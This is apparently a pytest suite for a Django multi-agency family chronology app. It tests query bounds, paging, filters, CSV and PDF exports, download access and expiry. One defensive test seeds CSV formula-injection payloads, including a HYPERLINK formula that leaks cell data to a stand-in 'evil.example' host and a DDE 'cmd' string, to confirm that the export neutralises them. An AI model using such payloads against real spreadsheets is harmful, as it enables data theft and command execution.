"""CHR-1, CHR-2: a family with 5,000 entries across 8 agencies opens, filters and pages in a bounded number of
queries, and exports to CSV and PDF with every entry in order."""

import csv
import io
import re
from datetime import date, timedelta
from urllib.parse import parse_qs, urlencode, urlparse

import pypdf
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape

from doorstep.audit.models import AuditAction, AuditEvent
from doorstep.chronology.models import ChronologyComment, ChronologyEntry, ChronologyExport, EntryKind, ExportState
from doorstep.chronology.services import chronology_export_prepare, chronology_exports_expire, chronology_record
from doorstep.engagement.models import Outcome
from doorstep.engagement.tests.helpers import record
from doorstep.families import casefile
from doorstep.families import services as family_services
from doorstep.families.models import MemberRole
from doorstep.notifications.models import Notification

from .helpers import long_history

# The chronology page's queries: session and user, the family and its access check and audit row, the filter
# form's agencies and people, the count, the entries with their people and analysis. Banners from other
# capabilities (markers, escalations) add a few of their own, and what stands beside the entries (RIG-2: the
# family's accounts, statements, requests to correct) one query each (the export, 31 on SQLite,
# runs 32 on PostgreSQL); none of it grows with the family.
MAX_QUERIES = 32


@pytest.fixture
def worker_client(client, world):
    client.force_login(world.users["involved_practitioner"])
    return client


@pytest.fixture
def big(world):
    return long_history(world)


def _summaries(response) -> list[str]:
    return re.findall(r"Entry (\d{5})", response.content.decode())


def _cursor(response, rel: str) -> dict:
    match = re.search(rf'href="\?([^"]*)" rel="{rel}"', response.content.decode())
    return {k: v[0] for k, v in parse_qs(match.group(1).replace("&amp;", "&")).items()} if match else {}


def _page_queries(client, url, params=None) -> int:
    with CaptureQueriesContext(connection) as queries:
        assert client.get(url, params or {}).status_code == 200
    return len(queries)


def test_the_chronology_pages_in_a_bounded_number_of_queries(world, worker_client, big,
                                                            django_assert_max_num_queries):
    url = reverse("chronology:family", args=[world.family.pk])
    with django_assert_max_num_queries(MAX_QUERIES):
        first = worker_client.get(url)
    shown = _summaries(first)
    assert shown == [f"{i:05d}" for i in range(4999, 4949, -1)]  # the newest 50, newest first
    total = ChronologyEntry.objects.filter(family=world.family).count()
    assert total > 5000 and f"{total} entries from every agency" in first.content.decode()
    older = _cursor(first, "next")
    with django_assert_max_num_queries(MAX_QUERIES):
        second = worker_client.get(url, older)
    assert _summaries(second) == [f"{i:05d}" for i in range(4949, 4899, -1)]
    with django_assert_max_num_queries(MAX_QUERIES):
        back = worker_client.get(url, _cursor(second, "prev"))
    assert _summaries(back) == shown
    # Health is agency 0 of 8, shouting is tagged on every 10th entry and every 50th is significant.
    filters = {"agency": str(world.users["involved_practitioner"].agency_id), "behaviour": "shouting",
               "significant_only": "on"}
    with django_assert_max_num_queries(MAX_QUERIES):
        filtered = worker_client.get(url, filters)
    assert _summaries(filtered) == [f"{i:05d}" for i in range(4800, -1, -200)]
    assert "Significant events only" in filtered.content.decode()


def test_query_count_does_not_grow_with_the_family(world, worker_client):
    url = reverse("chronology:family", args=[world.family.pk])
    record(world, outcome=Outcome.NO_ANSWER)
    small = _page_queries(worker_client, url)
    long_history(world)
    assert _page_queries(worker_client, url) == small
    assert _page_queries(worker_client, url, {"kind": "incident", "date_from_0": "1", "date_from_1": "1",
                                              "date_from_2": "2020"}) <= small + 1


def test_paging_through_a_filtered_chronology_visits_every_entry_once(world, worker_client, big):
    url = reverse("chronology:family", args=[world.family.pk])
    params = {"agency": str(big[3].agency_id)}  # entries 3, 11, 19, ... (625 of them)
    seen = []
    for _ in range(20):
        response = worker_client.get(url, params)
        seen += _summaries(response)
        older = _cursor(response, "next")
        if not older:
            break
        params = {**older}
    assert seen == [f"{i:05d}" for i in range(4995, -1, -8)]


def test_filters_by_person_kind_period_and_behaviour(world, worker_client, big):
    url = reverse("chronology:family", args=[world.family.pk])
    child = _summaries(worker_client.get(url, {"person": str(world.child.pk), "kind": "incident"}))
    assert child == [f"{i:05d}" for i in range(4999, -1, -1) if i % 3 == 0 and i % 5 == 3][:50]
    day = timezone.localtime(big[4000].occurred_at).date()
    period = _summaries(worker_client.get(url, {
        "date_from_0": day.day, "date_from_1": day.month, "date_from_2": day.year,
        "date_to_0": day.day, "date_to_1": day.month, "date_to_2": day.year}))
    expected = [f"{i:05d}" for i in range(4999, -1, -1)
                if timezone.localtime(big[i].occurred_at).date() == day]
    assert period == expected and 3 <= len(expected) <= 4
    bad = worker_client.get(url, {"date_from_0": "31", "date_from_1": "2", "date_from_2": "2026"})
    assert "From must be a real date" in bad.content.decode()


def _read_csv(response) -> list[list[str]]:
    assert response.streaming  # issue 15: streamed as the entries are read, never held whole
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


def test_csv_export_has_every_entry_in_order_and_the_export_sections(world, worker_client, big, monkeypatch,
                                                                    django_assert_max_num_queries):
    monkeypatch.setattr(casefile, "EXPORT_SECTIONS", [
        lambda *, family: {"title": "Warning markers", "lines": ["Dog at the address (police, 2026)"]}])
    # Issue 15: streamed, read a chunk at a time, with every entry's people and analysis in one query each.
    with django_assert_max_num_queries(MAX_QUERIES):
        response = worker_client.get(reverse("chronology:csv", args=[world.family.pk]))
        assert response["Content-Type"].startswith("text/csv")
        rows = _read_csv(response)
    assert rows[0] == ["Multi-agency chronology", f"Testing household ({world.family.reference})"]
    text = "\n".join(",".join(r) for r in rows)
    assert "Warning markers" in text and "Dog at the address (police, 2026)" in text
    assert re.search(r"Generated by,.*Health Board", text)
    header = rows.index(next(r for r in rows if r[:2] == ["Date", "Time"]))
    summaries = [re.match(r"Entry (\d{5})", r[7]).group(1) for r in rows[header + 1:] if r[7].startswith("Entry ")]
    assert summaries == [f"{i:05d}" for i in range(5000)]  # oldest first
    total = ChronologyEntry.objects.filter(family=world.family).count()
    assert AuditEvent.objects.filter(action=AuditAction.EXPORT, family=world.family,
                                     summary=f"Exported the chronology as CSV ({total} entries)").exists()


def _prepared_pdf(world, worker_client, params=None):
    """Ask for the PDF as the page does, run the worker's task, then download it from the page it says."""
    worker = world.users["involved_practitioner"]
    url = reverse("chronology:pdf", args=[world.family.pk])
    asked = worker_client.post(url + ("?" + urlencode(params) if params else ""))
    export = ChronologyExport.objects.get(requested_by=worker)
    assert asked.status_code == 302 and asked["Location"] == reverse("chronology:export",
                                                                    args=[world.family.pk, export.pk])
    waiting = worker_client.get(asked["Location"]).content.decode()
    assert "Your PDF is being prepared" in waiting and '<meta http-equiv="refresh" content="2">' in waiting
    assert chronology_export_prepare(export_id=export.pk) == "ready"
    ready = worker_client.get(asked["Location"]).content.decode()
    download = reverse("chronology:export-download", args=[world.family.pk, export.pk])
    assert "Your PDF is ready" in ready and download in ready and "http-equiv" not in ready
    return worker_client.get(download), ChronologyExport.objects.get(pk=export.pk)


def test_pdf_export_is_a_conference_document_with_the_entries_in_order(world, worker_client, big, monkeypatch):
    monkeypatch.setattr(casefile, "EXPORT_SECTIONS", [
        lambda *, family: {"title": "Incidents known to agencies", "lines": ["Officer pushed down the steps"]}])
    response, export = _prepared_pdf(world, worker_client)
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith(f'attachment; filename="chronology-{world.family.reference}')
    reader = pypdf.PdfReader(io.BytesIO(response.content))
    text = "\n".join(page.extract_text() for page in reader.pages)
    first_page = reader.pages[0].extract_text()
    for expected in ("Multi-agency chronology", "Testing household", "Period:", "Agencies:", "Health Board",
                     "Generated by:", "Incidents known to agencies", "Officer pushed down the steps"):
        assert expected in first_page
    assert re.findall(r"Entry (\d{5})", text) == [f"{i:05d}" for i in range(5000)]
    assert f"Page 1 of {len(reader.pages)}" in first_page
    # Every download is audited as the export; the requester is told it is ready (a message id and parameters).
    total = ChronologyEntry.objects.filter(family=world.family).count()
    assert export.total == total and export.pages >= 20
    assert AuditEvent.objects.filter(action=AuditAction.EXPORT, family=world.family,
                                     summary=f"Exported the chronology as PDF ({total} entries)").count() == 1
    note = Notification.objects.get(recipient=world.users["involved_practitioner"], family=world.family)
    assert note.message_text["msgid"] == "The PDF of the chronology of %(family)s is ready to download"
    assert note.link == reverse("chronology:export", args=[world.family.pk, export.pk])


@pytest.mark.clock("2026-03-02 10:00")
def test_the_pdf_is_its_requesters_alone_is_checked_again_at_download_and_is_deleted_after_a_day(world, client):
    worker, colleague = world.users["involved_practitioner"], world.users["involved_manager"]
    client.force_login(worker)
    _prepared_pdf(world, client)
    export = ChronologyExport.objects.get()
    download = reverse("chronology:export-download", args=[world.family.pk, export.pk])
    client.force_login(colleague)  # same agency, involved, but not the one who asked
    assert client.get(download).status_code == 404
    assert client.get(reverse("chronology:export", args=[world.family.pk, export.pk])).status_code == 404
    client.force_login(worker)
    assert client.get(download).status_code == 200
    world.involvement.ended_on = timezone.localdate()  # the agency stops being involved: no more downloads
    world.involvement.save()
    assert client.get(download).status_code == 404
    assert chronology_exports_expire(now=timezone.now() + timedelta(hours=23)) == 0
    assert chronology_exports_expire(now=timezone.now() + timedelta(hours=24)) == 1
    assert not ChronologyExport.objects.exists()


def test_a_pdf_asked_for_by_an_agency_no_longer_involved_fails_and_says_so(world, worker_client):
    worker_client.post(reverse("chronology:pdf", args=[world.family.pk]))
    export = ChronologyExport.objects.get()
    world.involvement.ended_on = timezone.localdate()
    world.involvement.save()
    assert chronology_export_prepare(export_id=export.pk) == "failed"
    export.refresh_from_db()
    assert export.state == ExportState.FAILED and "no longer involved" in export.error and export.content is None
    assert chronology_export_prepare(export_id=export.pk) == "not queued"  # never twice


def test_filtered_export_says_which_filters(world, worker_client, big):
    response = worker_client.get(reverse("chronology:csv", args=[world.family.pk]), {"behaviour": "shouting"})
    rows = _read_csv(response)
    assert ["Filters", "Behaviour: Threatening: Shouting"] in rows
    assert ["Entries", "500, oldest first"] in rows
    header = rows.index(next(r for r in rows if r[:2] == ["Date", "Time"]))
    assert len(rows) - header - 1 == 500
    response, export = _prepared_pdf(world, worker_client, {"behaviour": "shouting"})
    text = "\n".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(response.content)).pages)
    assert "Behaviour: Threatening: Shouting" in text and export.total == 500
    assert len(re.findall(r"Entry (\d{5})", text)) == 500


def test_analysis_comment_on_an_entry(world, worker_client):
    contact = record(world, outcome=Outcome.REFUSED_ENTRY)
    entry = ChronologyEntry.objects.get(source_type="engagement.Contact", source_id=str(contact.pk))
    url = reverse("chronology:comment", args=[entry.pk])
    assert "Enter your analysis" in worker_client.post(url, {"text": "  "}).content.decode()
    response = worker_client.post(url, {"text": "Third refusal this month"})
    assert response.status_code == 302 and response["Location"].endswith(f"#entry-{entry.pk}")
    comment = ChronologyComment.objects.get()
    assert comment.author == world.users["involved_practitioner"] and comment.entry == entry
    page = worker_client.get(reverse("chronology:family", args=[world.family.pk])).content.decode()
    assert "Third refusal this month" in page and reverse("engagement:detail", args=[contact.pk]) in page
    rows = _read_csv(worker_client.get(reverse("chronology:csv", args=[world.family.pk])))
    assert any(r and "Third refusal this month" in r[-1] for r in rows)


def test_significant_and_late_entries_stand_out(world, worker_client):
    record(world, outcome=Outcome.REFUSED_ENTRY, threats=["threat_to_kill"], ago=timedelta(days=4))
    page = worker_client.get(reverse("chronology:family", args=[world.family.pk])).content.decode()
    assert "ds-stand-out" in page and "govuk-tag--red" in page and "Late entry: recorded" in page
    assert "Threat to kill" in page


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_the_csv_export_neutralises_a_formula_in_the_family_name_and_in_every_other_cell(world, client):
    """Issue 13, finding 5: a spreadsheet must show these cells as text, never run them as formulas."""
    worker = world.users["involved_practitioner"]
    evil = '=HYPERLINK("https://evil.example/?"&A2,"Open")'
    family = family_services.family_create(by=worker, name=evil, reason="Health visiting concerns",
                                           line1="2 Heol y Felin", town="Afonwy", postcode="AF1 1AA")
    family_services.person_add(family=family, by=worker, role=MemberRole.PARENT, given_name="@SUM(1+1)",
                               family_name="Testing", date_of_birth=date(1990, 5, 1))
    notes = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
    for i, note in enumerate(notes):
        chronology_record(family=family, kind=EntryKind.CONTACT, occurred_at=timezone.now() - timedelta(hours=i + 1),
                          summary=note, by=worker)
    client.force_login(worker)
    rows = _read_csv(client.get(reverse("chronology:csv", args=[family.pk])))
    assert rows[0] == ["Multi-agency chronology", f"'{evil} ({family.reference})"]
    household = next(r for r in rows if r and r[0] == "Household")
    assert household[1].startswith("'@SUM(1+1) Testing")
    header = rows.index(next(r for r in rows if r[:2] == ["Date", "Time"]))
    summaries = [r[7] for r in rows[header + 1:]]
    for note in notes:
        assert "'" + note in summaries
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


def test_the_filter_forms_agencies_are_found_without_joining_every_involvement(world, worker_client):
    """Issue 15: the agencies involved with the family or with entries on its chronology, each once, by two
    `id IN (...)` tests instead of a join over every involvement with DISTINCT."""
    long_history(world, n=16)  # entries from eight agencies, four of them never involved
    with CaptureQueriesContext(connection) as queries:
        page = worker_client.get(reverse("chronology:family", args=[world.family.pk])).content.decode()
    for name in ("Health Board", "Police", "School", "Agency 3"):
        assert page.count(f">{name}</option>") == 1
    agencies_sql = next(q["sql"] for q in queries if q["sql"].startswith('SELECT "agencies_agency"."id"')
                        and "ORDER BY" in q["sql"])
    assert "DISTINCT" not in agencies_sql and "JOIN" not in agencies_sql


# --- Issue 18: practice first, system entries behind a switch, a filtered view says what it is filtered by -------

def _system_entry(world):
    from doorstep.testing.escalations import escalation_make

    escalation, _ = escalation_make(rule_id="ESC-1", clause="003 §7.9", key="TEST:system", owner=world.users[
        "involved_practitioner"], family=world.family, title="Convene a multi-agency meeting",
        deadline=timezone.now() + timedelta(days=3))
    return ChronologyEntry.objects.get(source_type="escalations.Escalation", source_id=str(escalation.pk))


def test_system_entries_are_hidden_by_default_and_shown_by_the_switch_without_javascript(world, worker_client):
    """Issue 18: an action Doorstep raised (a significant system entry) no longer pushes practice off the top."""
    contact = record(world, outcome=Outcome.REFUSED_ENTRY)
    practice = ChronologyEntry.objects.get(source_type="engagement.Contact", source_id=str(contact.pk))
    system = _system_entry(world)
    assert system.significant and system.occurred_at >= practice.occurred_at
    url = reverse("chronology:family", args=[world.family.pk])
    page = worker_client.get(url).content.decode()
    assert f'id="entry-{practice.pk}"' in page and f'id="entry-{system.pk}"' not in page
    assert 'class="moj-timeline"' in page
    switch = re.search(r'<a class="govuk-link" href="([^"]*)">Show system entries \(1 hidden\)</a>', page)
    assert switch and switch.group(1) == "?system=1"  # a plain link: works without JavaScript
    shown = worker_client.get(url + "?system=1").content.decode()
    assert f'id="entry-{system.pk}"' in shown and f'id="entry-{practice.pk}"' in shown
    assert shown.index(f'id="entry-{system.pk}"') < shown.index(f'id="entry-{practice.pk}"')  # newest first
    assert "System entry" in shown and "Hide system entries" in shown
    # Asking for the kind shows them too; the exports keep every entry (the CSV has the system entry).
    by_kind = worker_client.get(url, {"kind": "escalation"}).content.decode()
    assert f'id="entry-{system.pk}"' in by_kind
    rows = _read_csv(worker_client.get(reverse("chronology:csv", args=[world.family.pk])))
    assert any(r and "Convene a multi-agency meeting" in " ".join(r) for r in rows)


def test_a_filtered_view_says_what_it_is_filtered_by(world, worker_client):
    record(world, outcome=Outcome.REFUSED_ENTRY)
    url = reverse("chronology:family", args=[world.family.pk])
    assert 'id="filtered-by"' not in worker_client.get(url).content.decode()
    agency = world.users["involved_practitioner"].agency
    page = worker_client.get(url, {"agency": str(agency.pk), "person": str(world.child.pk), "behaviour": "shouting",
                                   "significant_only": "on", "date_from_0": "1", "date_from_1": "2",
                                   "date_from_2": "2026"}).content.decode()
    described = page[page.index('id="filtered-by"'):]
    described = described[:described.index("</div>")]
    for line in (f"Agency: {agency.display_name}", f"Person: {world.child}", "Behaviour: Threatening: Shouting",
                 "From: 1 Feb 2026", "Significant events only"):
        assert escape(line) in described
    assert "Clear filters" in described


def test_the_chronology_page_keeps_bounded_queries_with_system_entries_shown(world, worker_client, big,
                                                                           django_assert_max_num_queries):
    _system_entry(world)
    url = reverse("chronology:family", args=[world.family.pk])
    with django_assert_max_num_queries(MAX_QUERIES):
        assert worker_client.get(url, {"system": "1"}).status_code == 200
